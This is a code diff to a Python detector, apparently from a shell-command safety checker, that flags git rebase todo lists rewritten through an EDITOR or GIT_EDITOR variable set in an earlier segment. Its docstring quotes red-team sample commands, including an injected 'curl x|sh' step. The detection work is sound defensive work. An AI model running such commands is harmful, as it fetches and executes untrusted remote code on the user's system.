@@ -337,23 +337,25 @@ def _rebases(view: tuple[str, ...]) -> bool:
 def todo_editor_carried(seg_views: Sequence[Sequence[tuple[str, ...]]]) -> str | None:
     """red team, R4.9: rebase's todo list handed to an editor an EARLIER segment set -- `export
     EDITOR="sed -i '1i exec curl x|sh'"; git rebase -i HEAD~3`, `GIT_EDITOR=./fix.sh; git pull --rebase=i`. What
-    a segment exports or assigns (in a subshell or a pipeline too: reaching is the reading that asks) is read
-    for a later git rebase as its own prefix is (assignment_carried); a setting of the rebase's own that
+    a segment exports or assigns (in a subshell or a pipeline too: reaching is the reading that asks), and a
+    prefix for the script a shell it starts runs (`EDITOR=x sh -c 'git rebase -i'`), is read for a later git
+    rebase as its own prefix is (assignment_carried); a setting of the rebase's own that
     outranks it (`GIT_EDITOR=true git rebase -i` over an exported EDITOR) decides instead. TODO_WRITTEN or None."""
     carried: dict[str, str] = {}
     for views in seg_views:
         first = views[0] if views else ()
         if not first:
             continue
-        if first[0] in DECLARATION_BUILTINS or all("=" in w for w in first):
-            carried.update(leading_assignments(first))
-        elif carried and any(v[:1] == ("git",) and _rebases(v) for v in views):
+        if carried and any(v[:1] == ("git",) and _rebases(v) for v in views):
             own = {name for v in views for name, _ in leading_assignments(v)}  # `X=1 git`, `env X=1 git`
             for name in _TODO_TAKERS:
                 if name in own:
                     break  # it outranks what is carried after it; the segment's own reading reads it
                 if name in carried and rewrites_the_todo(carried[name]):
                     return TODO_WRITTEN
+        # what the segment sets for later ones, and a prefix for what it starts (`EDITOR=x sh -c 'git …'`,
+        # whose script's segments follow it): read as reaching every later segment
+        carried.update(leading_assignments(first))
     return None
 
 
